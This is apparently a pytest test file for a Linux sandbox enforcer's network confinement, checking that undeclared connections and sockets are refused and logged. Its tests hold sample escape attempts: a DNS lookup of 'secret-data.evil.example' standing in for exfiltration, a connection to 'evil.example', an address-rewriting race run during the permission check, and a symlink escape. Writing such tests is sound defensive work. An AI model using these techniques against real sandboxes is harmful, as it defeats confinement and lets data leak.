# The class of the fixture is in conftest, which tests cannot import.
# ruff: noqa: ANN401

import contextlib
import os
import socket
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from haldir_enforcer._linux import Services
from haldir_enforcer.events import Action, Class, Decision
from haldir_enforcer.limits import Limits

TRY = """
import os, socket, sys
def attempt(do):
    try: print("DONE", do())
    except OSError as error: print("REFUSED", error.errno)
"""


@pytest.fixture
def server() -> Iterator[int]:
    """The port of a server that greets, on both loopbacks."""
    listener = socket.create_server(("127.0.0.1", 0))

    def greet() -> None:
        while True:
            try:
                peer, _ = listener.accept()
            except OSError:
                return
            with peer:
                peer.sendall(b"hello")

    threading.Thread(target=greet, daemon=True).start()
    yield listener.getsockname()[1]
    listener.shutdown(socket.SHUT_RDWR)
    listener.close()


def test_a_declared_peer_is_reached(skill: Any, server: int) -> None:
    outcome = skill.python(
        f"{TRY}\nattempt(lambda: socket.create_connection(('127.0.0.1', {server}), 5).recv(10))",
        declared={"network": [f"127.0.0.1:{server}"]},
    )
    assert "DONE b'hello'" in outcome.output, outcome.output
    (event,) = outcome.of(Action.NET_CONNECT)
    assert (event.decision, event.kind, event.rule) == (Decision.ALLOW, Class.DECLARED, f"127.0.0.1:{server}")
    assert event.endpoint is not None
    assert (event.endpoint.ip, event.endpoint.port) == ("127.0.0.1", server)


def test_a_socket_that_does_not_wait_is_connected_too(skill: Any, server: int) -> None:
    outcome = skill.python(
        f"""
import asyncio
async def main():
    reader, writer = await asyncio.open_connection('127.0.0.1', {server})
    print(await reader.read(10)); writer.close()
asyncio.run(main())
""",
        declared={"network": [f"127.0.0.1:{server}"]},
    )
    assert "b'hello'" in outcome.output, outcome.output


@pytest.mark.parametrize(
    "way",
    [
        "socket.create_connection(('127.0.0.1', {port}), 2)",
        "socket.create_connection(('localhost', {port}), 2)",
        "socket.create_connection(('::1', {port}), 2)",
        "socket.create_connection(('::ffff:127.0.0.1', {port}), 2)",
        "socket.create_connection(('0.0.0.0', {port}), 2)",
        "socket.socket().connect_ex(('127.0.0.1', {port})) and (_ for _ in ()).throw(OSError(13, ''))",
        "socket.socket(socket.AF_INET, socket.SOCK_DGRAM)",
        "socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)",
        "socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)",
        "socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)",
        "socket.socket(socket.AF_INET, socket.SOCK_RAW, 1)",
        "socket.socket(socket.AF_PACKET, socket.SOCK_RAW)",
        "socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM)",
        "socket.socket(socket.AF_INET, socket.SOCK_STREAM, 132)",
        "socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262)",
        "socket.socket().bind(('127.0.0.1', {port} + 1))",
        "socket.socket().bind(('0.0.0.0', 0))",
        "socket.socket().listen(1)",
        "socket.create_server(('', 0))",
        "socket.socket(socket.AF_UNIX).connect({path!r})",
        "socket.socket(socket.AF_UNIX).connect('\\0' + {abstract!r})",
        "socket.socket(socket.AF_UNIX).bind({path!r} + '2')",
        "socket.socket(socket.AF_UNIX).bind('\\0' + {abstract!r} + '2')",
        "socket.socket().sendto(b'x', 0x20000000, ('127.0.0.1', {port}))",
    ],
)
def test_nothing_undeclared_is_reached(skill: Any, server: int, way: str) -> None:
    outside = str(skill.root.parent / "outside" / "s")
    abstract = f"haldir-test-{os.getpid()}-{server}"
    with socket.socket(socket.AF_UNIX) as named, socket.socket(socket.AF_UNIX) as unnamed:
        named.bind(outside)
        named.listen()
        unnamed.bind("\0" + abstract)
        unnamed.listen()
        call = way.format(port=server, path=outside, abstract=abstract)
        outcome = skill.python(f"{TRY}\nattempt(lambda: {call})", declared={"network": [f"127.0.0.1:{server + 1}"]})
    assert "REFUSED" in outcome.output, outcome.output
    if "0x20000000" not in way:
        assert outcome.violations


@pytest.mark.parametrize("family", ["AF_INET", "AF_INET6"])
def test_to_ask_for_any_port_of_loopback_is_refused_and_no_violation_but_to_listen_is(skill: Any, family: str) -> None:
    address = "127.0.0.1" if family == "AF_INET" else "::1"
    asks = f"attempt(lambda: socket.socket(socket.{family}).bind(({address!r}, 0)))"
    asked = skill.python(f"{TRY}\n{asks}")
    assert "REFUSED" in asked.output, asked.output
    assert not asked.violations
    listening = skill.python(f"{TRY}\n{asks}\nattempt(lambda: socket.socket(socket.{family}).listen(1))")
    assert listening.violations


def test_netlink_is_refused_quietly(skill: Any) -> None:
    outcome = skill.python(f"{TRY}\nattempt(lambda: socket.socket(socket.AF_NETLINK, socket.SOCK_RAW))")
    assert "REFUSED" in outcome.output
    (event,) = outcome.of(Action.NET_SOCKET)
    assert event.kind is Class.AMBIENT


def test_pairs_and_sockets_in_a_granted_folder_work(skill: Any) -> None:
    outcome = skill.python(
        """
import os, socket
a, b = socket.socketpair(); a.send(b'pair'); print(b.recv(9))
os.chdir('out')
server = socket.socket(socket.AF_UNIX); server.bind('s'); server.listen(1)
client = socket.socket(socket.AF_UNIX); client.connect('s')
peer, _ = server.accept(); client.send(b'path'); print(peer.recv(9))
""",
        declared={"filesystem": {"read": ["out"], "write": ["out"]}},
    )
    assert "b'pair'" in outcome.output
    assert "b'path'" in outcome.output, outcome.output
    assert not outcome.violations


def test_an_address_that_changes_during_the_check_gains_nothing(skill: Any, server: int) -> None:
    hits: list[int] = []
    forbidden = socket.create_server(("127.0.0.1", 0))

    def count() -> None:
        while True:
            try:
                forbidden.accept()[0].close()
            except OSError:
                return
            hits.append(1)

    threading.Thread(target=count, daemon=True).start()
    outcome = skill.python(
        f"""
import ctypes, socket, struct, threading, time
libc = ctypes.CDLL(None, use_errno=True)
def address(port): return struct.pack('=H', 2) + struct.pack('>H', port) + socket.inet_aton('127.0.0.1') + bytes(8)
good, bad = address({server}), address({forbidden.getsockname()[1]})
where = ctypes.create_string_buffer(good, 16)
def rewrite():
    while True:
        ctypes.memmove(where, bad, 16); ctypes.memmove(where, good, 16)
threading.Thread(target=rewrite, daemon=True).start()
end = time.monotonic() + 1
made = 0
while time.monotonic() < end:
    s = socket.socket(); made += libc.connect(s.fileno(), where, 16) == 0; s.close()
print('made', made > 0, flush=True)
""",
        declared={"network": [f"127.0.0.1:{server}"]},
    )
    forbidden.shutdown(socket.SHUT_RDWR)
    forbidden.close()
    assert "made True" in outcome.output, outcome.output
    assert not hits


def test_a_name_that_is_not_declared_is_in_the_trace(skill: Any) -> None:
    outcome = skill.python(
        f"{TRY}\nattempt(lambda: socket.getaddrinfo('secret-data.evil.example', 80))",
        environment={"RES_OPTIONS": "use-vc"},
    )
    assert "REFUSED" in outcome.output, outcome.output
    names = {event.endpoint.host for event in outcome.of(Action.NET_DNS, Decision.DENY) if event.endpoint}
    assert "secret-data.evil.example" in names


def test_names_resolve_to_what_was_pinned(skill: Any, server: int) -> None:
    outcome = skill.python(
        f"{TRY}\nattempt(lambda: socket.create_connection(('localhost', {server}), 5).recv(10))",
        declared={"network": [f"localhost:{server}"]},
    )
    assert "DONE b'hello'" in outcome.output, outcome.output
    assert not [event for event in outcome.violations if event.endpoint and event.endpoint.ip == "127.0.0.1"]


def test_refused_connections_end_in_the_sinkhole(skill: Any, server: int) -> None:
    outcome = skill.python(
        f"{TRY}\nattempt(lambda: socket.create_connection(('evil.example', 443), 5).recv(10))",
        services=Services(sinkhole=("127.0.0.1", server)),
    )
    assert "DONE b'hello'" in outcome.output, outcome.output
    assert {event.action for event in outcome.violations} == {Action.NET_DNS, Action.NET_CONNECT}


def test_the_proxy_is_reached_by_everyone(skill: Any, server: int) -> None:
    outcome = skill.python(
        f"{TRY}\nattempt(lambda: socket.create_connection(('127.0.0.1', {server}), 5).recv(10))",
        services=Services(proxy=("127.0.0.1", server)),
    )
    assert "DONE b'hello'" in outcome.output, outcome.output
    assert not outcome.violations


def test_who_connects_to_a_full_queue_waits_as_without_confinement(skill: Any) -> None:
    outcome = skill.python(
        """
import errno, os, socket, threading, time
os.chdir('out')
server = socket.socket(socket.AF_UNIX); server.bind('s'); server.listen(0)
first = socket.socket(socket.AF_UNIX); first.connect('s')
eager = socket.socket(socket.AF_UNIX); eager.setblocking(False)
print(errno.errorcode[eager.connect_ex('s')])
hasty = socket.socket(socket.AF_UNIX)
hasty.setsockopt(socket.SOL_SOCKET, socket.SO_SNDTIMEO, (0).to_bytes(8, 'little') + (200_000).to_bytes(8, 'little'))
began = time.monotonic()
print(errno.errorcode[hasty.connect_ex('s')], 0.15 < time.monotonic() - began < 5)
print(int.from_bytes(hasty.getsockopt(socket.SOL_SOCKET, socket.SO_SNDTIMEO, 16)[8:], 'little') > 150_000)
patient = socket.socket(socket.AF_UNIX)
threading.Timer(0.3, server.accept).start()
patient.connect('s')
print(patient.getsockopt(socket.SOL_SOCKET, socket.SO_SNDTIMEO, 16) == bytes(16))
""",
        declared={"filesystem": {"read": [], "write": ["out"]}},
    )
    assert outcome.output.split() == ["EAGAIN", "EAGAIN", "True", "True", "True"], outcome.output
    assert not outcome.violations


def test_a_server_that_takes_nobody_holds_up_only_who_connects_to_it(skill: Any) -> None:
    outcome = skill.python(
        """
import os, socket, threading, time
os.chdir('out')
server = socket.socket(socket.AF_UNIX); server.bind('s'); server.listen(0)
socket.socket(socket.AF_UNIX).connect('s')
threading.Thread(target=lambda: socket.socket(socket.AF_UNIX).connect('s'), daemon=True).start()
time.sleep(0.2)
for number in range(20): open(str(number), 'w').close()
print('DONE', flush=True)
os._exit(0)
""",
        declared={"filesystem": {"read": [], "write": ["out"]}},
        limits=Limits(timeout_seconds=20),
    )
    assert outcome.output.split() == ["DONE"]


@pytest.mark.parametrize(
    ("read", "write", "said"),
    [(False, True, "DONE b'hello'"), (True, False, "REFUSED 13"), (False, False, "REFUSED")],
    ids=["may write", "may read", "nothing"],
)
def test_who_may_write_in_a_folder_may_talk_over_a_socket_there_and_nobody_else(
    skill: Any, tmp_path: Path, *, read: bool, write: bool, said: str
) -> None:
    path = tmp_path / "outside" / "s"
    with socket.socket(socket.AF_UNIX) as server:
        server.bind(str(path))
        server.listen()
        threading.Thread(target=_greet_one, args=(server,), daemon=True).start()
        places = {"read": [str(path.parent)] * read, "write": [str(path.parent)] * write}
        outcome = skill.python(
            f"{TRY}\ndef talk():\n    peer = socket.socket(socket.AF_UNIX)\n    peer.connect({str(path)!r})\n"
            "    return peer.recv(9)\nattempt(talk)",
            declared={"filesystem": places},
        )
        server.shutdown(socket.SHUT_RDWR)
    assert outcome.output.startswith(said), outcome
    assert [event.path for event in outcome.violations] == ([] if write else [str(path)])
    assert outcome.of(Action.IPC_UNIX)


def _greet_one(server: socket.socket) -> None:
    with contextlib.suppress(OSError):
        peer, _ = server.accept()
        with peer:
            peer.sendall(b"hello")


def test_the_peer_of_a_stream_socket_is_judged_by_its_real_path(skill: Any, tmp_path: Path) -> None:
    outside = tmp_path / "outside" / "s"
    with socket.socket(socket.AF_UNIX) as server:
        server.bind(str(outside))
        server.listen()
        outcome = skill.python(
            f"{TRY}\nos.symlink({str(outside)!r}, 'out/s')\n"
            "attempt(lambda: socket.socket(socket.AF_UNIX).connect('out/s'))",
            declared={"filesystem": {"read": [], "write": ["out"]}},
        )
    assert "REFUSED" in outcome.output
    assert outcome.violations
